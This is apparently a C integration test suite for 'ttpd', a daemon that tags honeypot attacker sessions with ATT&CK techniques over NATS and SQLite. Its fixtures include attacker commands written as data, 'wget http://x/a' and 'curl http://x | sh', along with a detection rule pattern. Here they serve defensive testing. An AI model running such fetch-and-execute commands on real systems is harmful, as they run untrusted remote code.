/*
 * ttpd live on core NATS: a real nats-server, the real daemon, a temp
 * SQLite file.  Envelopes in, rows and ttp.tagged / ttp.rule.fired.<T>
 * out; duplicates, malformed input, queue groups, signals, daemon mode.
 */
#include "config.h"

#include <check.h>
#include <signal.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "json.h"
#include "natsfx.h"
#include "tag.h"
#include "testutil.h"

#define ROWS "SELECT count(*) FROM ttp_tag"

/* Parse a message body; the envelope shape is checked on the way. */
static ttpd_value *
envelope_of(natsMsg *m, const char *topic, const char *type)
{
	ttpd_value *v = jv_parse(natsMsg_GetData(m),
	    (size_t)natsMsg_GetDataLength(m), NULL, 0);
	const char *id;
	int64_t ver;
	double ts;

	ck_assert_msg(v != NULL, "not JSON: %s", natsMsg_GetData(m));
	ck_assert(jv_get_int(jv_object_get(v, "v"), &ver) == TTPD_OK &&
	    ver == 1);
	id = jv_string(jv_object_get(v, "id"));
	ck_assert(id != NULL && strlen(id) == 32 &&
	    strspn(id, "0123456789abcdef") == 32);
	ck_assert_str_eq(jv_string(jv_object_get(v, "topic")), topic);
	ck_assert_str_eq(jv_string(jv_object_get(v, "type")), type);
	ck_assert(jv_type(jv_object_get(v, "ts")) == TTPD_VT_REAL &&
	    jv_get_number(jv_object_get(v, "ts"), &ts) == TTPD_OK &&
	    ts > 1.7e9);
	ck_assert(jv_type(jv_object_get(v, "payload")) == TTPD_VT_OBJECT);
	return v;
}

static void
assert_str_array(const ttpd_value *a, const char *const *want, size_t n)
{
	size_t i;

	ck_assert_msg(jv_type(a) == TTPD_VT_ARRAY && jv_array_size(a) == n,
	    "array of %zu wanted", n);
	for (i = 0; i < n; i++)
		ck_assert_str_eq(jv_string(jv_array_get(a, i)), want[i]);
}

static const char *const other_topics[][2] = {
	{ "attacker.observed", "{\"v\":1,\"id\":\"%032x\",\"type\":"
	  "\"observed\",\"ts\":1.0,\"payload\":{\"attacker_ip\":\"10.9.9.9\","
	  "\"decky\":\"d\",\"service\":\"ssh\"}}" },
	{ "attacker.intel.enriched", "{\"v\":1,\"id\":\"%032x\",\"type\":"
	  "\"intel.enriched\",\"ts\":1.0,\"payload\":{\"attacker_uuid\":"
	  "\"att-A\",\"aggregate_verdict\":\"malicious\"}}" },
	{ "attacker.fingerprinted", "{\"v\":1,\"id\":\"%032x\",\"type\":"
	  "\"ipv6_leak\",\"ts\":1.0,\"payload\":{\"attacker_ip\":"
	  "\"10.9.9.9\",\"addr\":\"fe80::1\"}}" },
	{ "identity.formed", "{\"v\":1,\"id\":\"%032x\",\"type\":\"formed\","
	  "\"ts\":1.0,\"payload\":{\"identity_uuid\":\"id-1\","
	  "\"observation_uuids\":[]}}" },
	{ "identity.merged", "{\"v\":1,\"id\":\"%032x\",\"type\":\"merged\","
	  "\"ts\":1.0,\"payload\":{\"winner_uuid\":\"a\",\"loser_uuid\":"
	  "\"b\"}}" },
	{ "credential.reuse.detected", "{\"v\":1,\"id\":\"%032x\",\"type\":"
	  "\"reuse.detected\",\"ts\":1.0,\"payload\":{\"id\":\"c1\","
	  "\"attacker_uuids\":[\"a\"]}}" },
	{ "email.received", "{\"v\":1,\"id\":\"%032x\",\"type\":"
	  "\"received\",\"ts\":1.0,\"payload\":{\"source_id\":\"m1\","
	  "\"attacker_uuid\":\"att-A\",\"subject\":\"hi\"}}" },
	{ "canary.tok1.triggered", "{\"v\":1,\"id\":\"%032x\",\"type\":\"\","
	  "\"ts\":1.0,\"payload\":{\"token_id\":\"tok1\",\"src_ip\":"
	  "\"10.9.9.9\"}}" },
};

START_TEST(test_core_topics_and_payloads)
{
	struct fx f;
	natsMsg *m;
	ttpd_value *tagged = NULL, *fired[2] = { NULL, NULL }, *p;
	char u0[TAG_UUID_LEN + 1], u1[TAG_UUID_LEN + 1],
	    u2[TAG_UUID_LEN + 1], buf[512];
	size_t i;

	fx_setup(&f, NULL, NULL);
	fx_ttpd_start(&f, 0, 1);
	/* one session, two commands: wget (T1105) and curl|sh (T1105 and
	 * T1059.004), three tags */
	fx_pub_str(&f, "attacker.session.ended",
	    "{\"v\":1,\"id\":\"00000000000000000000000000000001\","
	    "\"topic\":\"ignored.by.ttpd\",\"type\":\"session.ended\","
	    "\"ts\":1700000000.25,\"payload\":{\"session_id\":\"sess-A\","
	    "\"attacker_uuid\":\"att-A\",\"attacker_ip\":\"10.1.1.1\","
	    "\"decky_id\":\"decky-1\",\"commands\":["
	    "{\"id\":\"A#0\",\"command_text\":\"wget http://x/a\"},"
	    "\"curl http://x | sh\"]}}");
	for (i = 0; i < sizeof other_topics / sizeof other_topics[0]; i++) {
		snprintf(buf, sizeof buf, other_topics[i][1], (unsigned)i + 7);
		fx_pub_str(&f, other_topics[i][0], buf);
	}
	ck_assert_int_eq(fx_wait_count(&f, ROWS, 3, 20), 3);
	ck_assert_int_eq(fx_count(&f, "SELECT count(*) FROM ttp_tag WHERE "
	    "attacker_uuid='att-A' AND session_id='sess-A' AND "
	    "decky_id='decky-1' AND source_kind='command'"), 3);
	ck_assert_int_eq(fx_count(&f, "SELECT count(*) FROM ttp_tag WHERE "
	    "source_id='sess-A#cmd1' AND technique_id='T1059' AND "
	    "sub_technique_id='T1059.004'"), 1);

	tag_uuid("command", "A#0", "TI0001", 1, "T1105", NULL, u0);
	tag_uuid("command", "sess-A#cmd1", "TI0002", 1, "T1105", NULL, u1);
	tag_uuid("command", "sess-A#cmd1", "TI0002", 1, "T1059", "T1059.004",
	    u2);
	while ((m = fx_next_out(&f, 2000)) != NULL) {
		const char *subj = natsMsg_GetSubject(m);

		if (strcmp(subj, "ttp.tagged") == 0) {
			ck_assert_msg(tagged == NULL, "two ttp.tagged");
			tagged = envelope_of(m, "ttp.tagged", "tagged");
		} else if (strcmp(subj, "ttp.rule.fired.T1059") == 0) {
			ck_assert(fired[0] == NULL);
			fired[0] = envelope_of(m, subj, "rule.fired");
		} else if (strcmp(subj, "ttp.rule.fired.T1105") == 0) {
			ck_assert(fired[1] == NULL);
			fired[1] = envelope_of(m, subj, "rule.fired");
		} else
			ck_abort_msg("unexpected message on %s", subj);
		natsMsg_Destroy(m);
	}
	ck_assert_msg(tagged != NULL && fired[0] != NULL && fired[1] != NULL,
	    "missing ttp.tagged or ttp.rule.fired");
	p = (ttpd_value *)jv_object_get(tagged, "payload");
	ck_assert_str_eq(jv_string(jv_object_get(p, "attacker_uuid")),
	    "att-A");
	ck_assert(jv_type(jv_object_get(p, "identity_uuid")) == TTPD_VT_NULL);
	ck_assert_str_eq(jv_string(jv_object_get(p, "session_id")), "sess-A");
	{
		const char *uuids[] = { u0, u1, u2 };
		const char *techs[] = { "T1059", "T1105" };

		assert_str_array(jv_object_get(p, "tag_uuids"), uuids, 3);
		assert_str_array(jv_object_get(p, "techniques_added"), techs,
		    2);
	}
	ck_assert_int_eq(jv_object_size(p), 5);
	p = (ttpd_value *)jv_object_get(fired[0], "payload");
	ck_assert_str_eq(jv_string(jv_object_get(p, "technique_id")), "T1059");
	{
		const char *uuids[] = { u2 };

		assert_str_array(jv_object_get(p, "tag_uuids"), uuids, 1);
	}
	ck_assert_str_eq(jv_string(jv_object_get(p, "attacker_uuid")),
	    "att-A");
	ck_assert(jv_type(jv_object_get(p, "identity_uuid")) == TTPD_VT_NULL);
	ck_assert_str_eq(jv_string(jv_object_get(p, "session_id")), "sess-A");
	ck_assert_int_eq(jv_object_size(p), 5);
	p = (ttpd_value *)jv_object_get(fired[1], "payload");
	{
		const char *uuids[] = { u0, u1 };

		assert_str_array(jv_object_get(p, "tag_uuids"), uuids, 2);
	}
	jv_decref(tagged);
	jv_decref(fired[0]);
	jv_decref(fired[1]);

	/* every topic was received and none was malformed; the anchorless
	 * ones (observed and fingerprinted without an attackers table,
	 * merged, reuse, canary) were dropped */
	{
		char *beat = fx_beat(&f);

		ck_assert_int_eq(fx_beat_int(beat, "received"), 9);
		ck_assert_int_eq(fx_beat_int(beat, "no_anchor"), 5);
		ck_assert_int_eq(fx_beat_int(beat, "malformed.wrong_type"), 0);
		ck_assert_int_eq(fx_beat_int(beat, "queue_dropped"), 0);
		free(beat);
	}
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	fx_teardown(&f);
}
END_TEST

START_TEST(test_core_same_event_five_times)
{
	struct fx f;
	char *env = fx_session_env(42);
	int i;

	fx_setup(&f, NULL, NULL);
	fx_ttpd_start(&f, 0, 1);
	for (i = 0; i < 5; i++)
		fx_pub_str(&f, "attacker.session.ended", env);
	ck_assert_int_eq(fx_wait_count(&f, ROWS, 1, 20), 1);
	/* all five went through before we count */
	ck_assert_int_eq(fx_health(&f, "received"), 5);
	ck_assert_int_eq(fx_count_out(&f, "ttp.tagged", 1000), 1);
	ck_assert_int_eq(fx_count(&f, ROWS), 1);
	free(env);
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	fx_teardown(&f);
}
END_TEST

START_TEST(test_core_malformed_each_class)
{
	static const struct {
		const char *subject, *body, *reason;
	} bad[] = {
		{ "attacker.session.ended", "{not json", "not_json" },
		{ "attacker.session.ended", "[1,2,3]", "not_object" },
		{ "attacker.session.ended", "{\"v\":1,\"type\":\"x\"}",
		  "missing_field" },
		{ "attacker.session.ended", "{\"v\":1,\"payload\":\"text\"}",
		  "wrong_type" },
		{ "attacker.session.ended", "{\"v\":\"1\",\"payload\":{}}",
		  "wrong_type" },
		{ "attacker.session.ended", "{\"payload\":{\"s\":\"\xff\xfe\"}}",
		  "invalid_utf8" },
		{ "attacker.bogus", "{\"v\":1,\"payload\":{}}",
		  "unknown_topic" },
	};
	struct fx f;
	char big[3000], *env, *beat;
	size_t i;

	/* attacker.> also brings topics ttpd has no kind for */
	fx_setup(&f, "subjects = [ \"attacker.>\" ];",
	    "input: { max_event_bytes = 2048; };");
	fx_ttpd_start(&f, 0, 1);
	for (i = 0; i < sizeof bad / sizeof bad[0]; i++)
		fx_pub_str(&f, bad[i].subject, bad[i].body);
	memset(big, ' ', sizeof big);
	memcpy(big, "{\"payload\":{}}", 14);
	fx_pub(&f, "attacker.session.ended", big, sizeof big);
	fx_flush(&f);
	/* a good event afterwards is still tagged */
	env = fx_session_env(1);
	fx_pub_str(&f, "attacker.session.ended", env);
	free(env);
	ck_assert_int_eq(fx_wait_count(&f, ROWS, 1, 20), 1);
	beat = fx_beat(&f);
	ck_assert_int_eq(fx_beat_int(beat, "malformed.not_json"), 1);
	ck_assert_int_eq(fx_beat_int(beat, "malformed.not_object"), 1);
	ck_assert_int_eq(fx_beat_int(beat, "malformed.missing_field"), 1);
	ck_assert_int_eq(fx_beat_int(beat, "malformed.wrong_type"), 2);
	ck_assert_int_eq(fx_beat_int(beat, "malformed.invalid_utf8"), 1);
	ck_assert_int_eq(fx_beat_int(beat, "malformed.unknown_topic"), 1);
	ck_assert_int_eq(fx_beat_int(beat, "malformed.oversized"), 1);
	ck_assert_int_eq(fx_beat_int(beat, "received"), 9);
	free(beat);
	ck_assert(fx_ttpd_alive(&f, 0));
	{
		char *log = fx_ttpd_log(&f, 0);

		ck_assert_msg(strstr(log, "malformed message on attacker.bogus"
		    " (unknown_topic)") != NULL, "%s", log);
		free(log);
	}
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	fx_teardown(&f);
}
END_TEST

/*
 * Queue group: two daemons share one subject set; every event is tagged
 * exactly once.  2 000 events rather than the 10 000: the
 * assertion (exactly once, both members used) does not depend on N and
 * the suite stays short.
 */
START_TEST(test_core_queue_group)
{
	enum { N = 2000 };
	struct fx f;
	char *env, *log0, *log1;
	int i;

	fx_setup(&f, "queue_group = \"ttpd-workers\";", NULL);
	fx_ttpd_start(&f, 0, 1);
	fx_ttpd_start(&f, 1, 1);
	for (i = 0; i < N; i++) {
		env = fx_session_env(i);
		fx_pub(&f, "attacker.session.ended", env, strlen(env));
		free(env);
	}
	fx_flush(&f);
	ck_assert_int_eq(fx_wait_count(&f, ROWS, N, 60), N);
	ck_assert_int_eq(fx_count_out(&f, "ttp.tagged", 1500), N);
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	ck_assert_int_eq(fx_ttpd_stop(&f, 1, SIGTERM), 0);
	/* both members did part of the work: neither saw all N */
	log0 = fx_ttpd_log(&f, 0);
	log1 = fx_ttpd_log(&f, 1);
	ck_assert_msg(strstr(log0, "stopped: 2000 messages") == NULL &&
	    strstr(log0, "stopped: 0 messages") == NULL, "%s", log0);
	ck_assert_msg(strstr(log1, "stopped: 2000 messages") == NULL &&
	    strstr(log1, "stopped: 0 messages") == NULL, "%s", log1);
	free(log0);
	free(log1);
	ck_assert_int_eq(fx_count(&f, ROWS), N);
	fx_teardown(&f);
}
END_TEST

/* SIGTERM right after a burst: everything received is committed and
 * published before the exit. */
START_TEST(test_core_sigterm_drains)
{
	enum { N = 3000 };
	struct fx f;
	char *env, *log;
	int i;

	fx_setup(&f, NULL, NULL);
	fx_ttpd_start(&f, 0, 1);
	for (i = 0; i < N; i++) {
		env = fx_session_env(i);
		fx_pub(&f, "attacker.session.ended", env, strlen(env));
		free(env);
	}
	fx_flush(&f);
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	ck_assert_int_eq(fx_count(&f, ROWS), N);
	ck_assert_int_eq(fx_count_out(&f, "ttp.tagged", 1000), N);
	log = fx_ttpd_log(&f, 0);
	ck_assert_msg(strstr(log, "stopped: 3000 messages received, 0 "
	    "dropped") != NULL, "%s", log);
	free(log);
	fx_teardown(&f);
}
END_TEST

START_TEST(test_core_sighup_reload)
{
	struct fx f;
	char *env, *log, path[1024];

	fx_setup(&f, NULL, NULL);
	fx_ttpd_start(&f, 0, 1);
	/* a broken configuration: the running one stays */
	snprintf(path, sizeof path, "%s/ttpd.conf", f.dir);
	tu_write_file(path, "store: { path = 12; };\n");
	kill(f.ttpd_pid[0], SIGHUP);
	ck_assert(fx_wait_log(&f, 0, "reload failed: keeping the running "
	    "configuration", 20));
	env = fx_session_env(1);
	fx_pub_str(&f, "attacker.session.ended", env);
	free(env);
	ck_assert_int_eq(fx_wait_count(&f, ROWS, 1, 20), 1);
	ck_assert(fx_ttpd_alive(&f, 0));

	/* a good one with a new rule (uname -> T1082): it applies; this
	 * time through the control subject */
	tu_write_file(strcat(strcpy(path, f.dir), "/rules/TI0003.yaml"),
	    "rule_id: TI0003\nrule_version: 1\nname: uname\n"
	    "description: added by reload\napplies_to: [command]\n"
	    "match:\n  field: command_text\n  pattern: '\\buname\\b'\n"
	    "emits:\n  - tactic: TA0007\n    technique_id: T1082\n"
	    "    confidence: 0.5\nevidence_fields: [command_text]\n");
	fx_write_conf(&f, NULL, NULL);
	fx_pub_str(&f, "system.ttp.control", "{\"action\":\"reload\"}");
	ck_assert(fx_wait_log(&f, 0, "reloaded from", 20));
	fx_pub_str(&f, "attacker.session.ended",
	    "{\"payload\":{\"session_id\":\"s-u\",\"attacker_uuid\":\"a\","
	    "\"commands\":[\"uname -a\"]}}");
	ck_assert_int_eq(fx_wait_count(&f, "SELECT count(*) FROM ttp_tag "
	    "WHERE rule_id='TI0003'", 1, 20), 1);
	log = fx_ttpd_log(&f, 0);
	ck_assert_msg(strstr(log, "reloaded from") != NULL, "%s", log);
	free(log);
	/* {"action":"stop"} stops it cleanly */
	fx_pub_str(&f, "system.ttp.control",
	    "{\"v\":1,\"type\":\"control\",\"payload\":{\"action\":\"stop\"}}");
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, 0), 0);
	fx_teardown(&f);
}
END_TEST

/* Without -f: detach, pidfile, a second instance refused. */
START_TEST(test_daemon_mode_pidfile)
{
	struct fx f;
	char pidpath[1024], *pidtext, *err = NULL;
	long pid;
	int rc, i;

	fx_setup(&f, NULL, NULL);
	snprintf(pidpath, sizeof pidpath, "%s/ttpd.pid", f.dir);
	{
		const char *args[] = { "-c", f.conf, NULL };

		rc = tu_run_ttpd(args, NULL, &err);
	}
	ck_assert_msg(rc == 0, "exit %d: %s", rc, err);
	free(err);
	pidtext = tu_read_file(pidpath, NULL);
	ck_assert(pidtext != NULL);
	pid = strtol(pidtext, NULL, 10);
	free(pidtext);
	ck_assert(pid > 1 && kill((pid_t)pid, 0) == 0);
	{
		const char *args[] = { "-c", f.conf, NULL };

		rc = tu_run_ttpd(args, NULL, &err);
	}
	ck_assert_int_eq(rc, 1);
	ck_assert_msg(strstr(err, "another ttpd is already running") != NULL,
	    "%s", err);
	free(err);
	kill((pid_t)pid, SIGTERM);
	for (i = 0; i < 300 && kill((pid_t)pid, 0) == 0; i++)
		usleep(50000);
	ck_assert_msg(kill((pid_t)pid, 0) != 0, "daemon still running");
	ck_assert(access(pidpath, F_OK) != 0);
	fx_teardown(&f);
}
END_TEST

/*
 * DECNET's database: attacker_ip is looked up in `attackers`, and a
 * session of an attacker with an `attacker_intel` row also yields an
 * intel event.  Only rule_engine is loaded, so the catch-up event shows
 * as the (once per kind) "no plugin handles 'intel'" warning; its
 * contents are checked in check_event.
 */
START_TEST(test_core_decnet_database)
{
	struct fx f;
	char path[1024], *log;
	sqlite3 *db;

	fx_setup(&f, NULL, NULL);
	snprintf(path, sizeof path, "%s/ttpd.db", f.dir);
	ck_assert(sqlite3_open(path, &db) == SQLITE_OK);
	ck_assert(sqlite3_exec(db,
	    "CREATE TABLE attackers (uuid VARCHAR PRIMARY KEY, ip VARCHAR);"
	    "INSERT INTO attackers VALUES ('att-db-1', '203.0.113.5');"
	    "CREATE TABLE attacker_intel (attacker_uuid VARCHAR PRIMARY KEY,"
	    " attacker_ip VARCHAR, aggregate_verdict VARCHAR,"
	    " abuseipdb_score INTEGER, greynoise_tags VARCHAR,"
	    " other_column VARCHAR);"
	    "INSERT INTO attacker_intel VALUES ('att-db-1', '203.0.113.5',"
	    " 'malicious', 95, '[\"ssh_bruteforcer\"]', 'x');",
	    NULL, NULL, NULL) == SQLITE_OK);
	sqlite3_close(db);
	fx_ttpd_start(&f, 0, 1);
	/* by IP: known, unknown */
	fx_pub_str(&f, "attacker.session.ended",
	    "{\"payload\":{\"session_id\":\"s-db\",\"attacker_ip\":"
	    "\"203.0.113.5\",\"commands\":[\"wget http://x/1\"]}}");
	fx_pub_str(&f, "attacker.session.ended",
	    "{\"payload\":{\"session_id\":\"s-db2\",\"attacker_ip\":"
	    "\"203.0.113.99\",\"commands\":[\"wget http://x/2\"]}}");
	ck_assert_int_eq(fx_wait_count(&f, ROWS, 1, 20), 1);
	ck_assert_int_eq(fx_count(&f, "SELECT count(*) FROM ttp_tag WHERE "
	    "attacker_uuid='att-db-1' AND session_id='s-db'"), 1);
	ck_assert_int_eq(fx_health(&f, "no_anchor"), 1);
	/* the catch-up intel event was built and routed (to no plugin) */
	ck_assert(fx_wait_log(&f, 0, "source kind 'intel'", 10));
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	log = fx_ttpd_log(&f, 0);
	ck_assert_msg(strstr(log, "intel catch-up") == NULL, "%s", log);
	free(log);
	fx_teardown(&f);
}
END_TEST

/* No server at start: ttpd waits, connects when it comes, logs the
 * outage once when it starts and once when it ends. */
START_TEST(test_core_server_late_and_outage)
{
	struct fx f;
	char *env, *log;
	const char *p;

	fx_setup(&f, NULL, NULL);
	/* the test connection reconnects by itself later */
	fx_nats_stop(&f, SIGTERM);
	fx_ttpd_start(&f, 0, 0);
	ck_assert(fx_wait_log(&f, 0, "yet; retrying in the background", 20));
	ck_assert(fx_ttpd_alive(&f, 0));
	fx_nats_start(&f);
	ck_assert(fx_wait_log(&f, 0, "bus: connected to nats://127.0.0.1:",
	    30));
	fx_health(&f, "received"); /* both connections are back */
	env = fx_session_env(7);
	fx_pub_str(&f, "attacker.session.ended", env);
	ck_assert_int_eq(fx_wait_count(&f, ROWS, 1, 20), 1);
	/* an outage in the middle */
	fx_nats_stop(&f, SIGKILL);
	ck_assert(fx_wait_log(&f, 0, "bus: connection lost", 20));
	fx_nats_start(&f);
	ck_assert(fx_wait_log(&f, 0, "bus: reconnected to", 30));
	fx_health(&f, "received");
	free(env);
	env = fx_session_env(8);
	fx_pub_str(&f, "attacker.session.ended", env);
	free(env);
	ck_assert_int_eq(fx_wait_count(&f, ROWS, 2, 20), 2);
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	log = fx_ttpd_log(&f, 0);
	p = strstr(log, "bus: connection lost");
	ck_assert_msg(p != NULL &&
	    strstr(p + 1, "bus: connection lost") == NULL, "%s", log);
	free(log);
	fx_teardown(&f);
}
END_TEST

/* A queue of 16 under a burst: drops are counted and logged, the rest is
 * tagged, and nothing is both. */
START_TEST(test_core_queue_full_drops)
{
	enum { N = 5000 };
	struct fx f;
	char *env, *beat;
	long received, dropped, rows;
	int i;

	fx_setup(&f, "queue_size = 16;", NULL);
	fx_ttpd_start(&f, 0, 1);
	for (i = 0; i < N; i++) {
		env = fx_session_env(i);
		fx_pub(&f, "attacker.session.ended", env, strlen(env));
		free(env);
	}
	fx_flush(&f);
	/* settle: two beats with the same count */
	do {
		beat = fx_beat(&f);
		received = fx_beat_int(beat, "received");
		free(beat);
		beat = fx_beat(&f);
	} while (fx_beat_int(beat, "received") != received);
	dropped = fx_beat_int(beat, "queue_dropped");
	ck_assert_int_eq(fx_beat_int(beat, "queue_depth"), 0);
	free(beat);
	rows = fx_wait_count(&f, ROWS, received - dropped, 20);
	ck_assert_msg(dropped > 0, "no drop with a queue of 16");
	ck_assert_int_eq(rows, received - dropped);
	ck_assert(fx_wait_log(&f, 0, "bus: queue full (bus.queue_size 16)",
	    5));
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	fx_teardown(&f);
}
END_TEST

/* Authentication: user/password, token; TLS with a private CA. */
START_TEST(test_core_auth_user_password)
{
	static const char *const args[] = { "--user", "ttpd", "--pass",
		"s3cret", NULL };
	struct fx_client c = { .user = "ttpd", .password = "s3cret" };
	struct fx f;
	char *env;

	fx_setup_with(&f, args, &c, "user = \"ttpd\"; password = \"s3cret\";",
	    NULL);
	fx_ttpd_start(&f, 0, 1);
	env = fx_session_env(3);
	fx_pub_str(&f, "attacker.session.ended", env);
	free(env);
	ck_assert_int_eq(fx_wait_count(&f, ROWS, 1, 20), 1);
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	/* a wrong password is a clear error, not a silent retry loop */
	fx_write_conf(&f, "user = \"ttpd\"; password = \"wrong\";", NULL);
	fx_ttpd_start(&f, 0, 0);
	ck_assert(fx_wait_log(&f, 0, "bus: cannot connect: Authentication "
	    "Violation", 20));
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, 0), 1);
	fx_teardown(&f);
}
END_TEST

START_TEST(test_core_auth_token)
{
	static const char *const args[] = { "--auth", "tok123", NULL };
	struct fx_client c = { .token = "tok123" };
	struct fx f;
	char *env;

	fx_setup_with(&f, args, &c, "token = \"tok123\";", NULL);
	fx_ttpd_start(&f, 0, 1);
	env = fx_session_env(4);
	fx_pub_str(&f, "attacker.session.ended", env);
	free(env);
	ck_assert_int_eq(fx_wait_count(&f, ROWS, 1, 20), 1);
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	fx_teardown(&f);
}
END_TEST

START_TEST(test_core_tls)
{
	static const char *const args[] = { "--tls", "--tlscert",
		"@/srv.pem", "--tlskey", "@/srv.key", NULL };
	struct fx_client c;
	struct fx f;
	char *dir, *cmd, ca[1024], bus[1200], *env;

	dir = fx_prepare_dir();
	ck_assert(asprintf(&cmd, "cd '%s' && "
	    "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 "
	    "-nodes -keyout ca.key -out ca.pem -days 1 -subj /CN=ttpd-test-ca "
	    ">/dev/null 2>&1 && "
	    "openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes "
	    "-keyout srv.key -out srv.csr -subj /CN=127.0.0.1 "
	    ">/dev/null 2>&1 && "
	    "printf 'subjectAltName=IP:127.0.0.1\\n' > ext.cnf && "
	    "openssl x509 -req -in srv.csr -CA ca.pem -CAkey ca.key "
	    "-CAcreateserial -out srv.pem -days 1 -extfile ext.cnf "
	    ">/dev/null 2>&1", dir) > 0);
	ck_assert_msg(system(cmd) == 0, "openssl failed: %s", cmd);
	free(cmd);
	snprintf(ca, sizeof ca, "%s/ca.pem", dir);
	memset(&c, 0, sizeof c);
	c.ca = ca;
	snprintf(bus, sizeof bus, "tls = \"required\"; tls_ca = \"%s\";", ca);
	fx_setup_with(&f, args, &c, bus, NULL);
	ck_assert_msg(strncmp(f.url, "tls://", 6) == 0, "%s", f.url);
	fx_ttpd_start(&f, 0, 1);
	env = fx_session_env(5);
	fx_pub_str(&f, "attacker.session.ended", env);
	free(env);
	ck_assert_int_eq(fx_wait_count(&f, ROWS, 1, 20), 1);
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	fx_teardown(&f);
}
END_TEST

/* NKey encoding (nats-io/nkeys): base32 without padding of prefix bytes,
 * key and a little-endian CRC-16/XMODEM. */
static void
nkey_encode(const unsigned char *prefix, size_t np,
    const unsigned char key[32], char *out)
{
	static const char b32[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
	unsigned char raw[40];
	unsigned crc = 0, bits = 0, acc = 0;
	size_t n = 0, i;
	int k;

	memcpy(raw, prefix, np);
	memcpy(raw + np, key, 32);
	n = np + 32;
	for (i = 0; i < n; i++) {
		crc ^= (unsigned)raw[i] << 8;
		for (k = 0; k < 8; k++)
			crc = (crc & 0x8000) ? ((crc << 1) ^ 0x1021) & 0xffff :
			    (crc << 1) & 0xffff;
	}
	raw[n++] = (unsigned char)(crc & 0xff);
	raw[n++] = (unsigned char)(crc >> 8);
	for (i = 0; i < n; i++) {
		acc = (acc << 8) | raw[i];
		bits += 8;
		while (bits >= 5) {
			*out++ = b32[(acc >> (bits - 5)) & 31];
			bits -= 5;
		}
	}
	if (bits > 0)
		*out++ = b32[(acc << (5 - bits)) & 31];
	*out = '\0';
}

/* The last 32 bytes of a DER file. */
static void
der_tail(const char *path, unsigned char out[32])
{
	size_t len;
	char *der = tu_read_file(path, &len);

	ck_assert(der != NULL && len >= 32);
	memcpy(out, der + len - 32, 32);
	free(der);
}

START_TEST(test_core_auth_nkey)
{
	static const char *const args[] = { "-c", "@/nkey.conf", NULL };
	static const unsigned char user_prefix[] = { 20 << 3 };
	static const unsigned char seed_prefix[] = { (18 << 3) | (160 >> 5),
		(160 & 31) << 3 };
	struct fx_client c;
	struct fx f;
	unsigned char priv[32], pub[32];
	char *dir, *cmd, pubkey[80], seed[80], path[1024], seedpath[1024],
	    conf[256], bus[1400], *env;

	dir = fx_prepare_dir();
	ck_assert(asprintf(&cmd, "cd '%s' && openssl genpkey -algorithm "
	    "ed25519 -outform DER -out k.der 2>/dev/null && openssl pkey "
	    "-inform DER -in k.der -pubout -outform DER -out p.der "
	    "2>/dev/null", dir) > 0);
	ck_assert_msg(system(cmd) == 0, "openssl failed: %s", cmd);
	free(cmd);
	snprintf(path, sizeof path, "%s/k.der", dir);
	der_tail(path, priv);
	snprintf(path, sizeof path, "%s/p.der", dir);
	der_tail(path, pub);
	nkey_encode(user_prefix, 1, pub, pubkey);
	nkey_encode(seed_prefix, 2, priv, seed);
	ck_assert(pubkey[0] == 'U' && seed[0] == 'S' && seed[1] == 'U');
	snprintf(seedpath, sizeof seedpath, "%s/user.nk", dir);
	snprintf(path, sizeof path, "%s\n", seed);
	tu_write_file(seedpath, path);
	snprintf(conf, sizeof conf, "authorization { users = [ { nkey: "
	    "\"%s\" } ] }\n", pubkey);
	snprintf(path, sizeof path, "%s/nkey.conf", dir);
	tu_write_file(path, conf);
	memset(&c, 0, sizeof c);
	c.nkey = pubkey;
	c.nkey_seed = seedpath;
	snprintf(bus, sizeof bus, "nkey = \"%s\"; nkey_seed = \"%s\";",
	    pubkey, seedpath);
	fx_setup_with(&f, args, &c, bus, NULL);
	fx_ttpd_start(&f, 0, 1);
	env = fx_session_env(6);
	fx_pub_str(&f, "attacker.session.ended", env);
	free(env);
	ck_assert_int_eq(fx_wait_count(&f, ROWS, 1, 20), 1);
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	/* the public key without its seed is a configuration error */
	snprintf(bus, sizeof bus, "nkey = \"%s\";", pubkey);
	fx_write_conf(&f, bus, NULL);
	fx_ttpd_start(&f, 0, 0);
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, 0), 1);
	ck_assert(fx_wait_log(&f, 0, "bus.nkey and bus.nkey_seed go "
	    "together", 5));
	fx_teardown(&f);
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("bus_core");
	TCase *tc = tcase_create("nats");
	SRunner *sr;
	int failed;

	fx_init_runner();
	/* runs in this process after the tests, even after a failed one */
	tcase_add_unchecked_fixture(tc, NULL, fx_cleanup_runner);
	tcase_set_timeout(tc, 120);
	tcase_add_test(tc, test_core_topics_and_payloads);
	tcase_add_test(tc, test_core_same_event_five_times);
	tcase_add_test(tc, test_core_malformed_each_class);
	tcase_add_test(tc, test_core_queue_group);
	tcase_add_test(tc, test_core_sigterm_drains);
	tcase_add_test(tc, test_core_sighup_reload);
	tcase_add_test(tc, test_daemon_mode_pidfile);
	tcase_add_test(tc, test_core_decnet_database);
	tcase_add_test(tc, test_core_server_late_and_outage);
	tcase_add_test(tc, test_core_queue_full_drops);
	tcase_add_test(tc, test_core_auth_user_password);
	tcase_add_test(tc, test_core_auth_token);
	tcase_add_test(tc, test_core_tls);
	tcase_add_test(tc, test_core_auth_nkey);
	suite_add_tcase(s, tc);
	sr = srunner_create(s);
